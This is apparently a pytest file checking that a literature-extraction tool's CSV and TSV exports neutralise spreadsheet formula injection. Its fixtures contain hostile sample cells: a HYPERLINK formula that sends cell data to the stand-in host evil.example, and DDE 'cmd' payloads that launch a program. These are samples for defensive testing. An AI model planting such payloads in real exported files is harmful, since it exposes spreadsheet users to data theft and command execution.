"""Spreadsheet formula injection: no CSV the tool writes holds a cell a spreadsheet would run (issue 16)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from extractor.cli import cli
from extractor.spreadsheet import DictWriter, Writer, safe_cell
from extractor.store_triage import TriageStore
from extractor.triage.criteria import Criteria

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") trial'
ABSTRACT = (
    "Background: Fathers of preterm infants are often left out of support. "
    "Methods: In this randomised controlled trial, 120 fathers were randomised to peer support "
    "or usual care. "
    "Results: Peer support reduced paternal anxiety (SMD -0.34, 95% CI -0.60 to -0.08). "
    "Conclusions: Peer support helps fathers."
)
RIS = "\n".join([
    "TY  - JOUR", f"TI  - {TITLE}", "AU  - @evil, Eve", "AU  - Smith, Ann", "PY  - 2021",
    "JO  - +Journal of Tests", f"AB  - {ABSTRACT}", "ER  - ", "",
])


@pytest.mark.parametrize(("value", "written"), [
    (TITLE, "'" + TITLE),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-0.34 mg", "'-0.34 mg"),
    ("--1", "'--1"),
    ("-1.2.3", "'-1.2.3"),
    ("-١٢", "'-١٢"),  # digits a spreadsheet does not read as a number
    # plain numbers stay numbers
    ("-0.34", "-0.34"), ("+1.5", "+1.5"), ("-.5", "-.5"), ("-1e-05", "-1e-05"), ("+2E3", "+2E3"),
    ("12", "12"),
    (-0.34, -0.34), (5, 5), (None, None),
    # text that starts with anything else is left as it is
    ("Peer support", "Peer support"), ("", ""), ("'=already text", "'=already text"), (" =1+1", " =1+1"),
    ("a=b", "a=b"),
])
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_both_writers_make_every_cell_safe_and_keep_numbers() -> None:
    handle = io.StringIO()
    Writer(handle).writerow(["=1+1", -0.34, "-0.34", "@x"])
    Writer(handle).writerows([["+a"]])
    dicts = DictWriter(handle, fieldnames=["a", "b"])
    dicts.writerow({"a": "=1+1", "b": "-0.34"})
    dicts.writerows([{"a": "-x", "b": 2}])
    assert handle.getvalue().splitlines() == ["'=1+1,-0.34,-0.34,'@x", "'+a", "'=1+1,-0.34", "'-x,2"]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database holding one record whose title, author and journal start formulas, with triage criteria."""
    folder = tmp_path_factory.mktemp("spreadsheet")
    (folder / "hostile.ris").write_text(RIS, encoding="utf-8")
    path = folder / "x.db"
    result = CliRunner().invoke(cli, ["extract", str(folder / "hostile.ris"), "--db", str(path), "-q"],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    tstore = TriageStore(path)
    tstore.set_criteria(Criteria(), "", "test")
    tstore.close()
    return path


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def cells_of(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell]


def run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return result.stdout


@pytest.mark.parametrize(("command", "delimiter"), [
    (["export", "--format", "csv"], ","),
    (["export", "--format", "metafor"], ","),
    (["triage", "export", "--format", "csv"], ","),
    (["triage", "export", "--format", "tsv"], "\t"),
])
def test_no_exported_cell_starts_a_formula(db: Path, command: list[str], delimiter: str) -> None:
    rows = rows_of(run(*command, "--db", str(db)), delimiter)
    assert rows
    for cell in cells_of(rows):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "", 1).lstrip("-").isdigit(), cell


def test_the_record_export_quotes_the_title_author_and_journal(db: Path) -> None:
    [row] = rows_of(run("export", "--format", "csv", "--db", str(db)))
    assert row["title"] == "'" + TITLE
    assert row["authors"].startswith("'@evil, Eve")
    assert row["journal"] == "'+Journal of Tests"
    assert row["year"] == "2021"


def test_the_triage_export_quotes_the_title_and_authors(db: Path) -> None:
    [row] = rows_of(run("triage", "export", "--format", "csv", "--db", str(db)))
    assert row["title"] == "'" + TITLE and row["authors"].startswith("'@evil")


def test_negative_estimates_stay_numbers_in_the_metafor_and_revman_files(db: Path) -> None:
    [metafor] = rows_of(run("export", "--format", "metafor", "--db", str(db)))
    assert (metafor["reported_value"], metafor["ci_low"], metafor["ci_high"]) == ("-0.34", "-0.6", "-0.08")
    assert float(metafor["yi"]) == pytest.approx(-0.34)
    assert metafor["study"].startswith("'@evil")  # the study label is the first author's name
    [revman] = rows_of(run("export", "--format", "revman", "--db", str(db)))
    assert float(revman["Estimate"]) == pytest.approx(-0.34) and revman["Study ID"].startswith("'@evil")
